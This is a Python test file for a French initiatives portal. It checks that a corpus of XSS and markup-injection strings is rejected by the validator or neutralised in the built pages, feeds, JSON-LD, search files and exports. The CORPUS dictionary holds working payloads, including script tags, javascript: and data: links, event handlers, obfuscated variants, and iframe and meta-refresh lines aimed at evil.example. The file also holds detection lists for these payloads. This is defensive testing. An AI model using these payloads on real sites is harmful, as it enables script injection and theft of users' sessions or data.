"""Markdown and front-matter injection: a corpus of attack strings through the validator and the real build.

Each string is tried in the body and in every free-text front-matter field. It is
either rejected by the validator, with a French message naming the file, the line and
the field, or accepted and neutralised: no live markup in the pages, the feeds, the
JSON-LD, the search files or the exports (all parsed, never searched as substrings).
"""

from __future__ import annotations

import csv
import json
from pathlib import Path
import re
from xml.etree import ElementTree

from bs4 import BeautifulSoup
from pelican import Pelican
from portal_core.validation import Checker
import pytest
from support import html_pages, page, report, site_settings, soup, write_files

CORPUS = {
    "script": "<script>window.__pwned=1</script>",
    "script-majuscules": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "lien-javascript-md": "[clic](javascript:window.__pwned=1)",
    "lien-javascript-casse": "[clic](JaVaScRiPt:window.__pwned=1)",
    "lien-javascript-entite": "[clic](&#106;avascript:window.__pwned=1)",
    "lien-javascript-tab": "[clic](java\tscript:window.__pwned=1)",
    "lien-data-md": "[clic](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "lien-vbscript-md": "[clic](vbscript:msgbox(1))",
    "lien-javascript-html": '<a href="javascript:window.__pwned=1">clic</a>',
    "lien-data-html": "<a href='data:text/html,<script>window.__pwned=1</script>'>clic</a>",
    "image-javascript": "![x](javascript:window.__pwned=1)",
    "evenement": '<img src=x onerror="window.__pwned=1">',
    "evenement-p": "<p onmouseover=window.__pwned=1>survol</p>",
    "iframe": '<iframe src="https://evil.example/"></iframe>',
    "object": '<object data="https://evil.example/x.swf"></object>',
    "embed": '<embed src="https://evil.example/x.swf">',
    "svg-script": "<svg><script>window.__pwned=1</script></svg>",
    "svg-onload": "<svg onload=window.__pwned=1></svg>",
    "style-element": "<style>body{background:url(javascript:window.__pwned=1)}</style>",
    "style-attribut": '<p style="background:url(javascript:window.__pwned=1)">x</p>',
    "base": '<base href="https://evil.example/">',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "form": '<form action="https://evil.example/"><input name=q><button>Envoyer</button></form>',
    "balises-cassees": "<scr<script>ipt>window.__pwned=1</scr</script>ipt>",
    "balises-imbriquees": '<div><p><a href="javascript:window.__pwned=1"><b>clic</div></p>',
    "commentaire": "<!--><img src=x onerror=window.__pwned=1>-->",
    "reference-md": "[clic][piege]\n\n[piege]: javascript:window.__pwned=1",
    "autolien-md": "<javascript:window.__pwned=1>",
    "sosies-unicode": "[clic](ｊａｖａｓｃｒｉｐｔ:window.__pwned=1) ＜script＞window.__pwned=1＜/script＞",
    "javascript-texte": "javascript:window.__pwned=1",
}

# Free-text fields of the front matter and where each one sits in the fiche below.
FIELDS = ("title", "summary", "collectivities[1].name", "awards[0].distinction", "key_figures[0].label",
          "key_figures[0].value", "source.note")  # fmt: skip

# The valid fiche with a placeholder in every free-text field and after the body.
FICHE = (
    page(
        **{
            'title: "Un potager dans chaque école"': "title: {title}",
            "summary: >-\n  La commune installe un potager dans chaque école et forme les enfants au jardinage.": (
                "summary: {summary}"
            ),
            '    code: "81004"\nawards:': (
                '    code: "81004"\n  - kind: ccas\n    name: {collectivities[1].name}\n'
                '    within:\n      kind: commune\n      code: "81004"\nawards:'
            ),
            '    category: "Aménagement / Urbanisme"': (
                '    category: "Aménagement / Urbanisme"\n    distinction: {awards[0].distinction}'
            ),
            "  - agriculture-alimentation\n": (
                "  - agriculture-alimentation\nkey_figures:\n"
                "  - label: {key_figures[0].label}\n    value: {key_figures[0].value}\n"
            ),
            "  document: territoria-2017\n---": "  document: territoria-2017\n  note: {source.note}\n---",
        }
    )
    + "\n{body}\n"
)
SAFE = {
    "title": "Un potager dans chaque école",
    "summary": "La commune installe un potager dans chaque école.",
    "collectivities[1].name": "CCAS d'Albi",
    "awards[0].distinction": "Coup de cœur du jury",
    "key_figures[0].label": "Écoles équipées",
    "key_figures[0].value": "12",
    "source.note": "Dossier de presse",
    "body": "",
}
# Lines of each field in FICHE (1-based), for the expected error messages.
LINES = {
    field: number
    for number, line in enumerate(FICHE.split("\n"), start=1)
    for field in FIELDS
    if f"{{{field}}}" in line
}


def fiche(field: str, payload: str) -> str:
    """The fiche with the payload in one field (a YAML double-quoted string) or in the body."""
    values = {name: json.dumps(value, ensure_ascii=False) for name, value in SAFE.items() if name != "body"}
    values["body"] = SAFE["body"]
    if field == "summary":  # long enough for the summary's minimum length
        payload = f"{SAFE['summary']} {payload}"
    values[field] = payload if field == "body" else json.dumps(payload, ensure_ascii=False)
    text = FICHE
    for name, value in values.items():
        text = text.replace(f"{{{name}}}", value)
    return text


def slug(field: str, name: str) -> str:
    return re.sub(r"[^a-z0-9]+", "-", f"{name}-{field}".lower()).strip("-")


@pytest.fixture(scope="module")
def verdicts() -> dict[tuple[str, str], list]:
    """Validator verdict of every (field, payload): the errors (empty when accepted)."""
    checker = Checker.from_settings({})
    return {
        (field, name): checker.check_file(f"content/initiatives/{slug(field, name)}.md", fiche(field, payload)).errors
        for field in (*FIELDS, "body")
        for name, payload in CORPUS.items()
    }


@pytest.fixture(scope="module")
def site(verdicts, tmp_path_factory) -> Path:
    """One site with a fiche per accepted (field, payload)."""
    root = tmp_path_factory.mktemp("injection")
    files = {
        f"initiatives/{slug(field, name)}.md": fiche(field, CORPUS[name])
        for (field, name), errors in verdicts.items()
        if not errors
    }
    write_files(root, files)
    Pelican(site_settings(root)).run()
    return root / "output"


FRENCH_MESSAGES = ("les caractères <, > et | sont interdits (texte simple, sans HTML)", "texte trop long")


def test_rejections_name_the_file_the_line_and_the_field_in_french(verdicts):
    rejected = {key: errors for key, errors in verdicts.items() if errors}
    for (field, name), errors in rejected.items():
        assert field != "body", (name, errors)
        assert {(e.path, e.line, e.field) for e in errors} == {
            (f"content/initiatives/{slug(field, name)}.md", LINES[field], field)
        }, (field, name)
        assert all(e.message.startswith(FRENCH_MESSAGES) for e in errors), errors
    assert len(rejected) > 100


# Elements and attributes a contributor can never produce; the theme's own are allowed below.
FORBIDDEN_TAGS = {
    "script", "iframe", "object", "embed", "style", "base", "form", "svg", "img", "input", "frame", "link",
}  # fmt: skip
DANGEROUS = re.compile(r"^(javascript|data|vbscript):")


def as_browser_reads(url: str) -> str:
    """A URL as browsers parse it (WHATWG): no leading or trailing C0 control or space, no tab or newline."""
    return re.sub(r"[\t\n\r]", "", url.strip("".join(map(chr, range(0x21))))).lower()


def is_theme_element(tag, where: str) -> bool:
    """Elements the templates write (search forms, scripts, icons, the maps and the charts)."""
    if tag.name == "svg":
        if where == "territoires/index.html":  # the map of the départements
            return tag.get("role") == "group"
        if where == "chiffres/index.html":  # the charts of « Le portail en chiffres »
            return "chart" in tag.get("class", [])
        # The locator map of a fiche.
        parent = tag.parent
        return where.startswith("initiatives/") and parent.name == "figure" and "locator" in parent.get("class", [])
    if tag.name == "script":
        scripts = ("/theme/js/recherche.js",)
        if where == "recherche/index.html":  # the search page runs the engine and lunr
            scripts += ("/theme/js/recherche-engine.js", "/theme/vendor/lunr/lunr-fr.min.js")
        if where == "recherche/index.html" and tag.get("id") == "recherche-meta":  # the index's meta.json
            return tag.get("type") == "application/json"
        return tag.get("type") == "application/ld+json" or tag.get("src", "").endswith(scripts)
    if tag.name == "form":
        return bool({"site-search", "search-form"} & set(tag.get("class", [])))
    if tag.name == "input":
        return tag.get("id") in ("recherche-site", "recherche-q", "recherche-404")
    if tag.name == "link":
        return tag.get("rel", [""])[0] in ("stylesheet", "canonical", "alternate", "icon", "apple-touch-icon")
    return False


def live_markup(html: BeautifulSoup, where: str) -> list[str]:
    """Forbidden elements, event or style attributes, and dangerous URLs in parsed HTML."""
    found = []
    for tag in html.find_all(True):
        if tag.name in FORBIDDEN_TAGS and not is_theme_element(tag, where):
            found.append(f"{where} : <{tag.name}>")
        if tag.name == "meta" and tag.get("http-equiv", "").lower() == "refresh":
            found.append(f"{where} : meta refresh")
        for attribute, value in tag.attrs.items():
            if attribute.startswith("on") or attribute == "style":
                found.append(f"{where} : attribut {attribute}")
            is_url = attribute in ("href", "src", "action", "data", "formaction", "xlink:href")
            if is_url and DANGEROUS.match(as_browser_reads(str(value))):
                found.append(f"{where} : {attribute}={value!r}")
    return found


def strings(value):
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for item in value.values():
            yield from strings(item)
    elif isinstance(value, list):
        for item in value:
            yield from strings(item)


def markup_in_data(text: str, where: str) -> list[str]:
    """A data value (JSON-LD, search file, export) that would be markup if read as HTML."""
    if "<" not in text:
        return []
    html = BeautifulSoup(text, "html.parser")
    return live_markup(html, where) + [f"{where} : <{t.name}>" for t in html.find_all(True)]


def test_no_attack_survives_as_live_markup(site, verdicts):
    accepted = [key for key, errors in verdicts.items() if not errors]
    found: list[str] = []
    pages = html_pages(site)
    for path in pages:
        html = soup(path)
        where = path.relative_to(site).as_posix()
        found += live_markup(html, where)
        for script in html.find_all("script", type="application/ld+json"):
            data = json.loads(script.string)
            found += [m for value in strings(data) for m in markup_in_data(value, f"{where} JSON-LD")]
    feeds = sorted((site / "feeds").rglob("*.xml"))
    for path in feeds:
        for element in ElementTree.parse(path).getroot().iter():
            if element.text and element.get("type") == "html":
                found += live_markup(BeautifulSoup(element.text, "html.parser"), path.name)
            elif element.text:
                found += markup_in_data(element.text, path.name)
    search = sorted((site / "recherche").rglob("*.json"))
    for path in search:
        data = json.loads(path.read_text(encoding="utf-8"))
        found += [m for value in strings(data) for m in markup_in_data(value, path.name)]
    exports = [site / "donnees" / "initiatives.json", site / "donnees" / "initiatives.csv"]
    found += [m for value in strings(json.loads(exports[0].read_text("utf-8"))) for m in markup_in_data(value, "json")]
    with exports[1].open(encoding="utf-8") as stream:
        found += [m for row in csv.reader(stream) for cell in row for m in markup_in_data(cell, "csv")]
    survivors = sorted({m.split(" : ")[0] for m in found})
    report(
        "Injection",
        f"{len(CORPUS)} attaques × {len(FIELDS) + 1} emplacements : {len(verdicts) - len(accepted)} refusées "
        f"à la validation, {len(accepted)} construites, {len(survivors)} fichier(s) avec du balisage actif "
        f"({len(pages)} pages, {len(feeds)} flux, {len(search)} fichiers de recherche, 2 exports)",
    )
    assert len(accepted) >= len(CORPUS)
    assert found == [], found


def test_the_detector_sees_live_markup():
    html = BeautifulSoup(
        '<a href=" JaVa\tScript:x()">a</a><p onclick="x()" style="color:red">b</p><iframe></iframe>'
        '<meta http-equiv="Refresh" content="0"><a href="java script:x()">relative</a>',
        "html.parser",
    )
    assert live_markup(html, "t") == [
        "t : href=' JaVa\\tScript:x()'",
        "t : attribut onclick",
        "t : attribut style",
        "t : <iframe>",
        "t : meta refresh",
    ]
